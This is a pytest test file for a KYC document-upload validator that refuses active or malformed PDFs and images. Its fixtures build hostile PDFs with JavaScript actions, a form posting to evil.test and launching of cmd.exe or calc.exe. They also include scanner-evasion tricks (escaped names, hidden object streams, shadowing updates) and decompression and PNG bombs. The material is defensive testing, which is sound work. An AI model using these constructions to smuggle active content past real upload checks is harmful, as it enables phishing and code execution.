"""What a KYC document may be: an inert PDF or a sane JPEG/PNG, judged by parsing it."""

from __future__ import annotations

from io import BytesIO

import pytest
from PIL import Image

from propdesk.accounts.models import Client
from propdesk.core.errors import ValidationFailed
from propdesk.onboarding import kyc
from propdesk.onboarding.models import KycDocument, KycSubmission
from tests.onboarding.factories import (
    JPEG,
    answers,
    build_pdf,
    documents,
    jpeg_bytes,
    png_bomb,
    png_bytes,
    stored_names,
    upload,
)

pytestmark = pytest.mark.django_db


def submit(client, form, **files):
    return kyc.submit(client, form_id=form.pk, values=answers(), files=documents(**files))


def refusal(client, form, **files) -> dict[str, str]:
    """The messages of a refused submission, after checking that nothing at all was kept."""
    with pytest.raises(ValidationFailed) as caught:
        submit(client, form, **files)
    assert not KycSubmission.objects.exists()
    assert not KycDocument.objects.exists()
    assert stored_names() == []
    client.refresh_from_db()
    assert client.kyc_status == Client.KycStatus.NOT_SUBMITTED
    return caught.value.fields


def refused_pdf(client, form, pdf: bytes) -> str:
    message = refusal(client, form, proof_of_address=upload("bill.pdf", pdf))["proof_of_address"]
    assert message.startswith("Proof of address: ")
    return message


LINK = b"/Annots[6 0 R]"


def catalog_packed_under_an_indirect_type() -> bytes:
    """The catalog, opening with a script, packed in an object stream whose /Type is a
    reference to the name /ObjStm: readers resolve it, a check reading /Type literally not."""
    import struct
    import zlib

    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(len(p) for p in parts)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    add(6, b"/ObjStm")
    header = b"1 0 "
    inner = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    body = zlib.compress(header + inner)
    add(
        7,
        b"<< /Type 6 0 R /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(body))
        + body
        + b"\nendstream",
    )
    xref_at = sum(len(p) for p in parts)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 9):
        if number == 1:
            rows.append(struct.pack(">BIH", 2, 7, 0))
        elif number in (4, 5):
            rows.append(struct.pack(">BIH", 0, 0, 0))
        elif number == 8:
            rows.append(struct.pack(">BIH", 1, xref_at, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    parts.append(
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return b"".join(parts)


def link(action: bytes) -> bytes:
    return b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<<" + action + b">>>>"


@pytest.mark.parametrize(
    ("pdf", "reason"),
    [
        pytest.param(
            build_pdf(page=LINK, extra=(link(b"/S/J#61vaScript/J#53(app.alert(1))"),)),
            "contains JavaScript",
            id="a name spelled with #-escapes",
        ),
        pytest.param(
            build_pdf(page=LINK, packed=(link(b"/S/JavaScript/JS(app.alert(1))"),)),
            "contains JavaScript",
            id="a script only inside a compressed object stream",
        ),
        pytest.param(
            build_pdf(page=LINK, packed=(link(b"/S/JavaScript/JS(app.alert(1))"),)).replace(
                b"/Type/ObjStm",
                b" " * len(b"/Type/ObjStm"),  # same length: offsets hold
            ),
            "contains JavaScript",
            id="a script inside an object stream that does not call itself one",
        ),
        pytest.param(
            catalog_packed_under_an_indirect_type(),
            "contains JavaScript",
            id="the catalog packed in a stream whose /Type is a reference",
        ),
        pytest.param(
            build_pdf(catalog=b"/Names<</JavaScript 6 0 R>>", extra=(b"<</Names[(a)7 0 R]>>",)),
            "contains JavaScript",
            id="a document-level script",
        ),
        pytest.param(
            build_pdf(page=LINK, extra=(link(b"/S/SubmitForm/F(https://evil.test/)"),)),
            "send form data",
            id="a form that posts its fields",
        ),
        pytest.param(
            build_pdf(page=LINK, extra=(link(b"/S/URI/URI(https://evil.test/verify)"),)),
            "links to web addresses",
            id="a link to a web address",
        ),
        pytest.param(
            build_pdf(page=LINK, extra=(link(b"/S/Launch/F(cmd.exe)"),)),
            "start a program",
            id="a program to launch",
        ),
        pytest.param(
            build_pdf(catalog=b"/OpenAction<</S/Named/N/Print>>"),
            "when it is opened",
            id="an action run on opening",
        ),
        pytest.param(
            build_pdf(catalog=b"/OpenAction 6 0 R", packed=(b"<</S/Hide/T(x)>>",)),
            "hide or show",
            id="an action run on opening, packed and referred to",
        ),
        pytest.param(
            build_pdf(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
            "runs actions when",
            id="additional actions on the page",
        ),
        pytest.param(
            build_pdf(
                catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>",
                extra=(
                    b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
                    b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
                ),
            ),
            "files embedded",
            id="an embedded file",
        ),
        pytest.param(
            build_pdf(catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>", extra=(b"<</Length 0>>",)),
            "XFA",
            id="an XFA form",
        ),
        pytest.param(
            build_pdf(catalog=b"/OpenAction 9 0 R")
            + b"9 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n",
            "start a program",
            id="an object the cross-reference table leaves out",
        ),
    ],
)
def test_a_pdf_that_can_act_is_refused_naming_the_document(active_client, kyc_form, pdf, reason):
    assert reason in refused_pdf(active_client, kyc_form, pdf)


def test_an_encrypted_pdf_is_refused(active_client, kyc_form):
    encrypted = build_pdf(trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O<00>/U<00>/P -4>>")
    assert "encrypted" in refused_pdf(active_client, kyc_form, encrypted)


@pytest.mark.parametrize(
    "garbage",
    [b"%PDF-1.7\nnot a PDF at all", b"%PDF-1.4\n" + b"\x00" * 5000, build_pdf()[:400]],
)
def test_a_pdf_that_cannot_be_read_is_refused(active_client, kyc_form, garbage):
    assert "cannot be read" in refused_pdf(active_client, kyc_form, garbage)


def test_an_object_stream_that_inflates_beyond_the_limit_is_refused(active_client, kyc_form):
    bomb = build_pdf(packed=(b"(" + b"0" * (40 * 1024 * 1024) + b")",))
    assert len(bomb) < 200_000
    assert "too large or too complex" in refused_pdf(active_client, kyc_form, bomb)


def test_a_pdf_of_too_many_objects_is_refused(active_client, kyc_form):
    crowded = build_pdf(extra=(b"null",) * 20_001)
    assert "objects" in refused_pdf(active_client, kyc_form, crowded)


def test_a_pdf_that_would_keep_the_parser_busy_for_minutes_is_stopped(
    active_client, kyc_form, settings
):
    """Each stream's length points at an object that is nowhere: the parser searches the whole
    file for each of them. The check runs under a CPU limit and gives up, refusing the file."""
    settings.KYC_DOCUMENT_CHECK_CPU_SECONDS = 1
    slow = tuple(
        f"<</Length {100_000 + n} 0 R>>stream\n".encode() + b"x" * 4000 + b"\nendstream"
        for n in range(2000)
    )
    assert "too large or too complex" in refused_pdf(active_client, kyc_form, build_pdf(extra=slow))


def test_a_pdf_of_many_packed_objects_is_checked_within_the_cpu_limit(
    active_client, kyc_form, settings
):
    """Each object stream is unpacked once: resolving its objects one by one inflated the whole
    stream again for each, and a 30 KB statement took over a minute."""
    settings.KYC_DOCUMENT_CHECK_CPU_SECONDS = 2
    statement = tuple(b"<</K %d/V(a line of the statement)>>" % n for n in range(2000))
    submit(
        active_client, kyc_form, proof_of_address=upload("bill.pdf", build_pdf(packed=statement))
    )


def shadowed_by_an_update() -> bytes:
    """Object 5 runs JavaScript on opening; an incremental update packs an inert object 5 in an
    object stream. pypdf reads the update's; a reader rebuilding the file reads the first."""
    import struct

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>")
    add(4, b"<< /Length 0 >>\nstream\n\nendstream")
    add(5, b"<< /S /JavaScript /JS (app.alert(1)) >>")
    first_xref = len(out)
    out.extend(b"xref\n0 6\n0000000000 65535 f \n")
    for number in range(1, 6):
        out.extend(b"%010d 00000 n \n" % offsets[number])
    out.extend(b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % first_xref)
    header, inner = b"5 0 ", b"<< /S /GoTo /D [3 0 R /Fit] >>"
    add(
        6,
        b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n"
        % (len(header), len(header + inner))
        + header
        + inner
        + b"\nendstream",
    )
    offsets[7] = len(out)
    rows = b"".join(
        [
            struct.pack(">BIH", 2, 6, 0),
            struct.pack(">BIH", 1, offsets[6], 0),
            struct.pack(">BIH", 1, offsets[7], 0),
        ]
    )
    out.extend(
        b"7 0 obj\n<< /Type /XRef /Size 8 /Index [5 3] /W [1 4 2] /Root 1 0 R /Prev %d "
        b"/Length %d >>\nstream\n"
        % (first_xref, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[7]
    )
    return bytes(out)


def test_an_object_an_update_shadows_is_checked_too(active_client, kyc_form):
    assert "contains JavaScript" in refused_pdf(active_client, kyc_form, shadowed_by_an_update())


@pytest.mark.parametrize(
    "pdf",
    [
        build_pdf(),
        build_pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        build_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
        build_pdf(page=LINK, packed=(link(b"/S/GoTo/D[3 0 R/XYZ 0 792 0]"),)),
        build_pdf(catalog=b"/AcroForm<</Fields[6 0 R]>>", extra=(b"<</FT/Tx/T(name)>>",)),
    ],
    ids=["plain", "opens at a page", "goes to a page", "packed inner link", "plain form"],
)
def test_an_inert_pdf_is_accepted(active_client, kyc_form, pdf):
    submission = submit(active_client, kyc_form, proof_of_address=upload("bill.pdf", pdf))
    assert submission.documents.get(document_key="proof_of_address").size == len(pdf)


def test_a_png_bomb_is_refused_before_a_pixel_is_decoded(active_client, kyc_form):
    bomb = png_bomb(20_000)
    assert len(bomb) < 400_000
    message = refusal(active_client, kyc_form, identity_document=upload("id.png", bomb))
    assert "50 megapixels" in message["identity_document"]
    assert message["identity_document"].startswith("Identity document: ")


def test_a_picture_wider_than_the_limit_is_refused(active_client, kyc_form):
    wide = png_bomb(20_001, 10)
    message = refusal(active_client, kyc_form, identity_document=upload("id.png", wide))
    assert "20001 by 10 pixels" in message["identity_document"]


@pytest.mark.parametrize(
    "broken",
    [png_bytes(300, 200)[:-300], jpeg_bytes(400, 300)[:-3000], b"\x89PNG\r\n\x1a\n<html>hi</html>"],
    ids=["cut-short PNG", "cut-short JPEG", "PNG signature on something else"],
)
def test_a_damaged_or_cut_short_picture_is_refused(active_client, kyc_form, broken):
    message = refusal(active_client, kyc_form, identity_document=upload("id.png", broken))
    assert "damaged" in message["identity_document"]


def test_an_animated_png_is_refused(active_client, kyc_form):
    frames = [Image.new("L", (40, 30), shade) for shade in (0, 255)]
    out = BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    message = refusal(active_client, kyc_form, identity_document=upload("id.png", out.getvalue()))
    assert "animated" in message["identity_document"]


@pytest.mark.parametrize("picture", [png_bytes(64, 48), JPEG], ids=["PNG", "JPEG"])
def test_a_normal_picture_is_accepted(active_client, kyc_form, picture):
    submission = submit(active_client, kyc_form, identity_document=upload("scan", picture))
    assert submission.documents.get(document_key="identity_document").size == len(picture)


def test_the_check_may_use_only_the_memory_it_is_given(active_client, kyc_form, settings):
    """A 49-megapixel picture passes the size limits and decodes within the normal budget;
    with a budget smaller than its pixels it is refused instead of swelling the process."""
    picture = png_bomb(7000)
    settings.KYC_DOCUMENT_CHECK_MEMORY_MB = 16
    message = refusal(active_client, kyc_form, identity_document=upload("id.png", picture))
    assert "too large or too complex" in message["identity_document"]
    settings.KYC_DOCUMENT_CHECK_MEMORY_MB = 512
    submit(active_client, kyc_form, identity_document=upload("id.png", picture))


def test_a_bad_document_is_named_while_the_good_one_is_not_kept(active_client, kyc_form):
    fields = refusal(
        active_client,
        kyc_form,
        proof_of_address=upload("bill.pdf", build_pdf(catalog=b"/OpenAction<</S/Launch>>")),
    )
    assert set(fields) == {"proof_of_address"}
